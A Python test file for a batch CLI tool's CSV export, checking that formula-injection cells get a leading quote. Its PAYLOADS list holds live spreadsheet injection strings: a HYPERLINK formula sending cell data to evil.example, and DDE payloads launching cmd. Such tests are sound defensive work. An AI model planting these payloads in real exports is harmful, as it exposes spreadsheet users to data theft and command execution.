"""Formula injection through the whole path, as a user meets it: a file submitted with `claude-batch-tui submit`,
results ingested by `watch` from a server whose answers, error types and messages and stop reasons start with
every formula character (and custom_ids starting with `-`, the one the custom_id alphabet allows), then
`export` to CSV. Every such cell gets a leading quote, the numbers we write stay numbers (negative token counts
from the server included), and `--raw-cells` writes every cell verbatim. The faithful emulator never answers
like this, so a tiny hostile server of our own serves the results (tests/reliability/hostile_server.py)."""

from __future__ import annotations

import asyncio
import csv

import orjson

from tests.builders import request, write_jsonl
from tests.reliability.hostile_server import HostileServer, ended_batch
from tui.cli import main

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NUMBERS = ("input_tokens", "output_tokens", "cache_creation_input_tokens", "cache_read_input_tokens", "cost_usd")


async def _cli(capsys, *argv: str) -> tuple[int, str, str]:
    code = await asyncio.to_thread(main, list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


def _succeeded(cid: str, text: str, stop: str) -> bytes:
    return orjson.dumps({"custom_id": cid, "result": {"type": "succeeded", "message": {
        "id": f"msg_{cid}", "type": "message", "role": "assistant", "model": "claude-haiku-4-5",
        "content": [{"type": "text", "text": text}], "stop_reason": stop, "stop_sequence": None,
        "usage": {"input_tokens": -5000, "output_tokens": 7}}}}) + b"\n"


def _errored(cid: str, etype: str, message: str) -> bytes:
    return orjson.dumps({"custom_id": cid, "result": {"type": "errored", "error": {
        "type": "error", "error": {"type": etype, "message": message}, "request_id": None}}}) + b"\n"


def _rows(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


async def test_a_csv_export_through_the_cli_never_starts_a_formula(journal_path, tmp_path, capsys):
    ok_ids = [f"-ok{i}" for i in range(len(TRIGGERS))]
    bad_ids = [f"-bad{i}" for i in range(len(TRIGGERS))]
    source = write_jsonl(tmp_path / "formulas.jsonl", [request(cid, "hi", max_tokens=50) for cid in ok_ids + bad_ids])
    async with HostileServer() as server:
        base = ["--journal", str(journal_path), "--base-url", server.base_url]
        code, out, err = await _cli(capsys, *base, "submit", str(source))
        assert code == 0, err
        [batch_id] = server.created
        assert out.strip() == batch_id
        n = len(ok_ids) + len(bad_ids)
        server.batches[batch_id] = ended_batch(batch_id, server.base_url, n, request_counts={
            "processing": 0, "succeeded": len(ok_ids), "errored": len(bad_ids), "canceled": 0, "expired": 0})
        server.results[batch_id] = b"".join(
            [_succeeded(cid, text, f"{t}stop") for cid, t, text in zip(ok_ids, TRIGGERS, PAYLOADS)]
            + [_errored(cid, f"{t}error", text) for cid, t, text in zip(bad_ids, TRIGGERS, PAYLOADS)])
        code, out, err = await _cli(capsys, *base, "watch", "--interval", "0.1")
        assert code == 0, err

        safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
        code, out, err = await _cli(capsys, *base, "export", batch_id, "--joined", "-o", str(safe))
        assert code == 0 and f"wrote {n} rows" in out, err
        code, out, err = await _cli(capsys, *base, "export", batch_id, "--joined", "--raw-cells", "-o", str(raw))
        assert code == 0 and f"wrote {n} rows" in out, err

    safe_rows, raw_rows = _rows(safe), _rows(raw)
    assert len(safe_rows) == len(raw_rows) == n
    for row in safe_rows:
        for name, cell in row.items():
            if name in NUMBERS and cell:
                float(cell)                           # a number we wrote: left as it is, even when negative
            else:
                assert not cell.startswith(TRIGGERS), (name, cell)
    by_id = {r["custom_id"]: r for r in safe_rows}
    raw_by_id = {r["custom_id"]: r for r in raw_rows}
    for cid, t, text in zip(ok_ids, TRIGGERS, PAYLOADS):
        row, verbatim = by_id["'" + cid], raw_by_id[cid]
        assert (row["response_text"], row["stop_reason"]) == ("'" + text, f"'{t}stop")
        assert (verbatim["response_text"], verbatim["stop_reason"]) == (text, f"{t}stop")
        assert row["input_tokens"] == verbatim["input_tokens"] == "-5000" and row["output_tokens"] == "7"
        assert row["cost_usd"] == verbatim["cost_usd"] and float(row["cost_usd"]) < 0
        assert orjson.loads(row["params"])["max_tokens"] == 50
    for cid, t, text in zip(bad_ids, TRIGGERS, PAYLOADS):
        row, verbatim = by_id["'" + cid], raw_by_id[cid]
        assert (row["error_type"], row["error_message"]) == (f"'{t}error", "'" + text)
        assert (verbatim["error_type"], verbatim["error_message"]) == (f"{t}error", text)


def test_help_says_what_raw_cells_does(capsys):
    try:
        main(["export", "--help"])
    except SystemExit as done:
        assert done.code == 0
    text = " ".join(capsys.readouterr().out.split())
    assert "--raw-cells" in text and "for programs, not spreadsheets" in text
    assert "gets a ' in front" in text and "JSONL is always as received" in text
